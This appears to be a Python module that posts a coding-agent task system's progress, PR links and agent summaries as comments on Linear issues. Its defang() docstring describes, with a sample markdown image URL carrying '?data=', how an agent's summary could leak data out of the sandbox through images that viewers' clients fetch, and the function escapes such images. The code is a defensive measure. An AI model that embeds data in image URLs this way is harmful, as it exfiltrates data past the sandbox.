"""Notifier `linear`: progress and the PR link back on the Linear issue a task came from.

One status comment per task is edited in place as the task moves (no comment spam); notices a
person should be pinged about (review with the PR link, merged, failed, rejected, reverted,
refused) also get their own comment. Comment ids are deterministic UUIDs, so an activity retry
never posts twice.
"""

from __future__ import annotations

import re

from adapters.linear import LinearClient, stable_comment_id
from conveyor.config import Settings
from conveyor.models import Notice

STATUS_REF = "linear_status_comment"
PING_KINDS = {"review", "merged", "failed", "rejected", "reverted", "refused"}
_SUMMARY_CAP = 3000


class LinearNotifier:
    name = "linear"

    def __init__(self, settings: Settings | None = None, client: LinearClient | None = None):
        if client is None:
            if settings is None:
                raise ValueError("LinearNotifier needs settings or a client")
            client = LinearClient.from_settings(settings)
        self.client = client

    def notify(self, notice: Notice) -> dict[str, str]:
        issue_id = notice.origin.linear_issue_id
        if not issue_id:
            return {}
        status_id = notice.refs.get(STATUS_REF) or stable_comment_id(notice.task_id, "status")
        # LinearError propagates with `.retryable`; a retry is safe because the ids are stable.
        self.client.upsert_comment(issue_id, status_id, render_status(notice))
        if notice.kind in PING_KINDS:
            head = notice.change.head_sha if notice.change else ""
            ping_id = stable_comment_id(notice.task_id, notice.kind, notice.stage.value, head)
            self.client.comment(issue_id, render_ping(notice), ping_id)
        return {STATUS_REF: status_id}


def _run_line(notice: Notice) -> str:
    run = notice.run
    if run is None:
        return ""
    parts = []
    if run.turns is not None:
        parts.append(f"{run.turns} turns")
    if run.cost_usd is not None:
        parts.append(f"${run.cost_usd:.2f}")
    if run.duration_s:
        parts.append(f"{run.duration_s:.0f}s")
    if run.files_changed:
        parts.append(f"{run.files_changed} files, +{run.lines_added}/-{run.lines_removed}")
    return "Agent run: " + ", ".join(parts) if parts else ""


def defang(text: str) -> str:
    """Untrusted text (the agent's summary, task text, failure details) must not embed images:
    every viewer's client fetches an image URL, so `![](https://x/?data=...)` in an agent summary
    would carry data out of the sandbox. The markdown stays readable; the image becomes text."""
    return re.sub(r"<(\s*img\b)", r"&lt;\1", text.replace("![", "!\\["), flags=re.I)


def render_status(notice: Notice) -> str:
    lines = [f"**Conveyor** task `{notice.task_id}` on `{notice.repo}`: **{notice.stage.value.replace('_', ' ')}**", "", defang(notice.text)]
    if notice.change and notice.change.url:
        label = f"#{notice.change.number}" if notice.change.number else notice.change.branch
        lines += ["", f"Change: [{label}]({notice.change.url})"]
    elif notice.change:
        lines += ["", f"Change: branch `{notice.change.branch}` at `{notice.change.head_sha[:10]}`"]
    run_line = _run_line(notice)
    if run_line:
        lines += ["", run_line]
    if notice.warnings:
        lines += ["", "Warnings:"] + [f"- {defang(w)}" for w in notice.warnings[:10]]
    if notice.ui_url:
        lines += ["", f"[Task in Temporal]({notice.ui_url})"]
    return "\n".join(lines).strip() + "\n"


def render_ping(notice: Notice) -> str:
    if notice.kind == "review" and notice.change:
        where = f"[{'PR #' + str(notice.change.number) if notice.change.number else notice.change.branch}]({notice.change.url})" if notice.change.url else f"branch `{notice.change.branch}`"
        lines = [f"Conveyor opened {where} for review."]
        if notice.run and notice.run.summary:
            summary = notice.run.summary.strip()
            if len(summary) > _SUMMARY_CAP:
                summary = summary[:_SUMMARY_CAP] + "\n[...]"
            lines += ["", "**Why (from the agent):**", "", defang(summary)]
        run_line = _run_line(notice)
        if run_line:
            lines += ["", run_line]
        return "\n".join(lines) + "\n"
    verb = {
        "merged": "merged", "failed": "failed", "rejected": "was rejected", "reverted": "was reverted",
        "refused": "was refused",
    }.get(notice.kind, notice.kind)
    by = f" by {notice.decided_by}" if notice.decided_by else ""
    link = f" ({notice.change.url})" if notice.change and notice.change.url else ""
    return f"Conveyor task `{notice.task_id}` {verb}{by}{link}: {defang(notice.text)}\n"
